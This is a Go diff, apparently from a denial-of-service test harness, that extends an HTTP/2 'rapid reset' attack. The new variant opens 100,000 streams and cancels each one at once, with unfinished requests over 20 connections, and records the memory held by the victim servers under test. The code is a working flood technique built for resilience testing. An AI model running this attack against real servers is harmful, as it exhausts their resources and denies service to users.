@@ -101,14 +101,26 @@ var protocols = []attacks.Attack{
 	{
 		// 100,000 streams of HTTP/2 that are canceled at once.
 		Name: "rapid reset of HTTP/2", Victim: polyglot,
-		Do:        rapidReset,
+		Do:        func(a *attacks.Attacker) { rapidReset(a, true) },
 		Held:      32 * mib,
 		NoLatency: "the work is that of the two processors",
 	},
 	{
 		// With the default times, a timer of a stream that outlives the stream does so for 30 s.
 		Name: "rapid reset of HTTP/2, default times", Victim: patient,
-		Do:        rapidReset,
+		Do:        func(a *attacks.Attacker) { rapidReset(a, true) },
+		Held:      32 * mib,
+		NoLatency: "the work is that of the two processors",
+	},
+	{
+		// The same with requests that have not ended, on 20 connections, because the victim ends
+		// each after 5,000 resets.
+		Name: "rapid reset of unfinished requests", Victim: patient,
+		Do: func(a *attacks.Attacker) {
+			for range 20 {
+				rapidReset(a, false)
+			}
+		},
 		Held:      32 * mib,
 		NoLatency: "the work is that of the two processors",
 	},
@@ -201,13 +213,14 @@ var protocols = []attacks.Attack{
 	},
 }
 
-// rapidReset opens 100,000 streams and cancels each at once.
-func rapidReset(a *attacks.Attacker) {
+// rapidReset opens 100,000 streams and cancels each at once, until the victim ends the connection.
+// Whole ends the requests.
+func rapidReset(a *attacks.Attacker, whole bool) {
 	c := a.Dial()
 	c.Raw(preface(65_535))
 	c.Discard()
 	for i := range 100_000 {
-		c.Raw(stream(2*i+1, "/T.Block", true))
+		c.Raw(stream(2*i+1, "/T.Block", whole))
 		c.Raw(frame(3, 0, 2*i+1, "\x00\x00\x00\x08"))
 		if i%100 == 99 && !c.Flush() {
 			break
